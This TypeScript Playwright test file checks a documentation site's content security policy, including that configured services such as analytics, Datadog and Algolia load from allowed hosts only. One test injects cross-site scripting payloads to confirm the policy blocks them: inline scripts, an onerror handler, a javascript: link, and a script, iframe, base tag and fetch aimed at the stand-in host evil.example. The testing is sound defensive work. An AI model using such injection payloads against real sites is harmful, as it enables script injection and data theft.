import {readFileSync} from 'node:fs';
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import path from 'node:path';
import type {Page} from '@playwright/test';
import {serve} from '../../scripts/static-server';
import {allRoutes, chunks, expect, hydrated, test} from './fixtures';
import {buildVariant} from './variant';
import {violationsOf} from './violations';

/** Scrolls through the page, so that what loads when it comes near has loaded. */
async function readThrough(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (let y = 0; y < document.body.scrollHeight; y += innerHeight) {
      scrollTo(0, y);
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  });
  await page.evaluate(() => new Promise<void>((resolve) => requestIdleCallback(() => resolve(), {timeout: 1000})));
}

test.describe('under the content security policy', () => {
  for (const [n, routes] of chunks([...allRoutes(), '/no-such-page/', '/end-to-end/'], 40).entries()) {
    test(`every page works without a violation, part ${n + 1}`, async ({page, problems}) => {
      test.setTimeout(300_000);
      const violations = await violationsOf(page);
      for (const route of routes) {
        const response = await page.goto(route);
        expect(response?.headers()['content-security-policy'], route).toContain("script-src 'self' 'sha256-");
        if (route === '/end-to-end/') await page.waitForURL('**/guides/end-to-end/');
        await hydrated(page);
        await readThrough(page);
      }
      expect(violations).toEqual([]);
      // The status of the one unknown page is no problem of the policy.
      problems.splice(0, problems.length, ...problems.filter((problem) => !/404/.test(problem)));
    });
  }

  test('search, its worker and a playground work', async ({page}) => {
    const violations = await violationsOf(page);
    await page.goto('/search/?q=mock');
    await hydrated(page);
    await expect(page.getByRole('main').getByRole('link', {name: /mock/i}).first()).toBeVisible({timeout: 20_000});
    await page.goto('/transform/transforms/split/');
    await page.locator('[data-playground]').first().locator('> div').last().scrollIntoViewIfNeeded();
    await expect(page.getByText(/^Computed/).first()).toBeVisible({timeout: 20_000});
    expect(violations).toEqual([]);
  });

  test.describe('what the site does not need', () => {
    test.use({expectedProblems: [/Content Security Policy|Refused|violates|404/]});

    test('is stopped', async ({page}) => {
      const violations = await violationsOf(page);
      await page.goto('/');
      await hydrated(page);
      await page.evaluate(() => {
        const inline = document.createElement('script');
        inline.textContent = 'window.hacked = "inline"';
        const foreign = document.createElement('script');
        foreign.src = 'https://evil.example/x.js';
        document.body.append(inline, foreign);
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src=/nothing.svg onerror="window.hacked = 1"><iframe src="https://evil.example/"></iframe><base href="https://evil.example/">',
        );
        // Code from a string, in a place where the policy of the page holds.
        document.body.insertAdjacentHTML('beforeend', '<a id="script-link" href="javascript:window.hacked = 2">x</a>');
        document.getElementById('script-link')?.click();
        void fetch('https://evil.example/collect').catch(() => undefined);
      });
      const stopped = () => [...new Set(violations.map((violation) => violation.split(' ')[0] ?? ''))].sort();
      await expect.poll(stopped).toEqual(['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem']);
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    });
  });
});

test.describe('with every service configured', () => {
  test.describe.configure({mode: 'serial'});
  let site: Awaited<ReturnType<typeof serve>>;
  let sink: Server;
  let dir: string;

  test.beforeAll(async () => {
    test.setTimeout(240_000);
    sink = createServer((request, response) => {
      response.setHeader('Access-Control-Allow-Origin', '*').setHeader('Access-Control-Allow-Headers', '*');
      response.setHeader('Content-Type', 'text/javascript').end(request.url?.startsWith('/stats.js') ? 'window.statsLoaded = true;' : '');
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
    const built = await buildVariant({
      ANALYTICS_SCRIPT_URL: `${origin}/stats.js`,
      TAG_MANAGER_ID: 'GTM-TEST123',
      DATADOG_APPLICATION_ID: '00000000-0000-4000-8000-000000000000',
      DATADOG_CLIENT_TOKEN: 'pub00000000000000000000000000000000',
      DATADOG_PROXY: `${origin}/intake`,
      ALGOLIA_APP_ID: 'TESTAPP123',
      ALGOLIA_SEARCH_API_KEY: '0123456789abcdef0123456789abcdef',
      ALGOLIA_INDEX_NAME: 'docs',
      ASK_AI_ENDPOINT: `${origin}/ask`,
    });
    expect(built.output).not.toContain('[ERROR]');
    ({dir} = built);
    site = await serve(dir);
  });
  test.afterAll(() => {
    site?.server.close();
    sink?.close();
  });

  test('they run, and only their hosts are allowed', async ({page}) => {
    const violations = await violationsOf(page);
    const asked: string[] = [];
    const record = (url: string) => asked.push(new URL(url).host);
    await page.route('https://www.googletagmanager.com/**', (route) => {
      record(route.request().url());
      return route.fulfill({contentType: 'text/javascript', body: 'window.tagsLoaded = true;'});
    });
    await page.route(/https:\/\/[^/]*algolia(net)?\.(net|com)\//, (route) => {
      record(route.request().url());
      return route.fulfill({
        json: {results: [{hits: [], nbHits: 0, query: '', page: 0, nbPages: 0, hitsPerPage: 20, processingTimeMS: 1, exhaustiveNbHits: true, params: ''}]},
        headers: {'Access-Control-Allow-Origin': '*'},
      });
    });
    await page.goto(`${site.url}/`);
    await hydrated(page);
    await expect
      .poll(() => page.evaluate(() => ['statsLoaded', 'tagsLoaded', 'DD_RUM'].filter((name) => name in window)))
      .toEqual(['statsLoaded', 'tagsLoaded', 'DD_RUM']);
    await page.goto(`${site.url}/search/?q=mock`);
    await expect.poll(() => asked.some((host) => host.includes('algolia')), {timeout: 20_000}).toBe(true);
    await page.waitForLoadState('networkidle');
    expect(violations).toEqual([]);
    const policy = /Content-Security-Policy: (.*)/.exec(readFileSync(path.join(dir, '_headers'), 'utf8'))?.[1] ?? '';
    const hosts = new Set([...policy.matchAll(/https?:\/\/([^ ;]+)/g)].map(([, host]) => host));
    expect([...hosts].filter((host) => !/^(127\.0\.0\.1:\d+|www\.googletagmanager\.com|TESTAPP123[\w-]*\.algolia(net)?\.(net|com))$/.test(host ?? ''))).toEqual(
      [],
    );
    expect(policy).not.toContain('unsafe-eval');
    expect(/script-src ([^;]*)/.exec(policy)?.[1]).not.toContain('unsafe-inline');
  });
});
